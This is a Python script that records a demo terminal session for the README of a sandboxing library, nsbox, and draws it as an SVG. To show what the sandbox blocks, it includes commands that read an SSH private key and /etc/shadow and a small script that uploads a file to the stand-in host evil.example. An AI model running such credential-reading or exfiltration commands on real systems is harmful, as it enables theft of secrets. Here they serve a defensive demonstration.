"""Records the terminal that README.md shows: `python docs/pictures/terminal.py` writes terminal.svg beside this file.

The commands really run, in a directory made for them. Only the milliseconds differ from run to run.
"""

from __future__ import annotations

import code
import contextlib
import io
import os
import subprocess
import sys
import tempfile
from html import escape
from pathlib import Path

import nsbox

# What is typed at the shell's prompt, and then at Python's.
SHELL = (
    "cat ../.ssh/id_ed25519",
    "nsbox run -- cat ../.ssh/id_ed25519 /etc/shadow",
    "nsbox run -- sh -c 'echo hello | tee made; touch /usr/made'",
)
PYTHON = (
    "import nsbox",
    'box = nsbox.Sandbox(nsbox.Policy.workspace(".", network=["api.example"]))',
    'done = box.shell("python3 upload.py", timeout=60)',
    "print(*done.why)",
    "py = box.python()",
    'py.run("sum(range(10))").value',
    "print(f\"{min(py.run('6 * 7').duration for _ in range(20)) * 1000:.1f} ms\")",
)
UPLOAD = "import urllib.request\n\nurllib.request.urlopen('https://evil.example/', data=open('made', 'rb').read())\n"
KEY = "a private key\n"  # no real one, for those who search for keys

Line = tuple[str, str]  # its class in the picture, its text

WIDTH = 104  # characters; a longer line is wrapped, as a terminal does
CHARACTER, HEIGHT, MARGIN = 8.4, 20, 20  # of a font of 14 pixels

STYLE = """
  svg { color-scheme: light dark; }
  text { font: 14px ui-monospace, SFMono-Regular, Menlo, Consolas, "DejaVu Sans Mono", monospace; white-space: pre; }
  .frame { fill: #f6f8fa; stroke: #d0d7de; }
  .prompt { fill: #1a7f37; font-weight: bold; }
  .typed { fill: #1f2328; font-weight: bold; }
  .said { fill: #57606a; }
  @media (prefers-color-scheme: dark) {
    .frame { fill: #161b22; stroke: #30363d; }
    .prompt { fill: #3fb950; }
    .typed { fill: #e6edf3; }
    .said { fill: #9da7b3; }
  }
"""


def shell(command: str, environment: dict[str, str]) -> list[Line]:
    """Run a command as if typed, and return it and what it says."""
    done = subprocess.run(
        ["sh", "-c", command],
        env=environment,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        check=False,
    )
    return [("$ ", command), *(("", line) for line in done.stdout.splitlines())]


def python(lines: tuple[str, ...]) -> list[Line]:
    """Give these lines to one interpreter, and return them and what it says."""
    console, found = code.InteractiveConsole({}), []
    for line in lines:
        with contextlib.redirect_stdout(io.StringIO()) as said, contextlib.redirect_stderr(said):
            console.push(line)
        found += [(">>> ", line), *(("", text) for text in said.getvalue().splitlines())]
    console.locals["box"].close()  # type: ignore[attr-defined]
    return found


def record() -> list[Line]:
    """Do all of it in a directory of its own, and return the lines of the terminal."""
    # The command, for an installation whose directory isn't on PATH.
    search = os.pathsep.join([os.path.dirname(sys.executable), os.environ.get("PATH", os.defpath)])
    environment = {**os.environ, "PATH": search, "LC_ALL": "C.UTF-8"}
    before = os.getcwd()
    with tempfile.TemporaryDirectory() as home:
        project = Path(home, "project")
        for directory in (project, Path(home, ".ssh")):
            directory.mkdir()
        Path(home, ".ssh/id_ed25519").write_text(KEY)
        (project / "upload.py").write_text(UPLOAD)
        os.chdir(project)
        try:
            lines = [line for command in SHELL for line in shell(command, environment)]
            return [*lines, ("$ ", "python"), *python(PYTHON)]
        finally:
            os.chdir(before)


def rows(lines: list[Line]) -> list[Line]:
    """Wrap the lines at the terminal's width."""
    found = []
    for prompt, text in lines:
        room = WIDTH - len(prompt)
        parts = [text[at : at + room] for at in range(0, len(text), room)] or [""]
        found += [(prompt if i == 0 else " " * len(prompt), part) for i, part in enumerate(parts)]
    return found


def draw(lines: list[Line]) -> str:
    """Return the terminal as SVG, in colours that suit a light page and a dark one."""
    shown = rows(lines)
    width, height = round(WIDTH * CHARACTER + 2 * MARGIN), len(shown) * HEIGHT + 2 * MARGIN
    texts = []
    for number, (prompt, text) in enumerate(shown):
        y = MARGIN + number * HEIGHT + 14
        said = "typed" if prompt else "said"
        first = f'<tspan class="prompt">{escape(prompt)}</tspan>' if prompt.strip() else escape(prompt)
        texts.append(f'  <text x="{MARGIN}" y="{y}" class="{said}" xml:space="preserve">{first}{escape(text)}</text>')
    return "\n".join(
        [
            f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" width="{width}" role="img">',
            "  <title>Commands in sandboxes of nsbox: what they can't read, write or reach</title>",
            f"  <style>{STYLE}  </style>",
            f'  <rect class="frame" x="0.5" y="0.5" width="{width - 1}" height="{height - 1}" rx="8"/>',
            *texts,
            "</svg>\n",
        ]
    )


def main() -> None:
    """Write the picture."""
    path = Path(__file__).with_suffix(".svg")
    path.write_text(draw(record()))
    print(f"{path}: written, with nsbox {nsbox.__version__}")


if __name__ == "__main__":
    main()
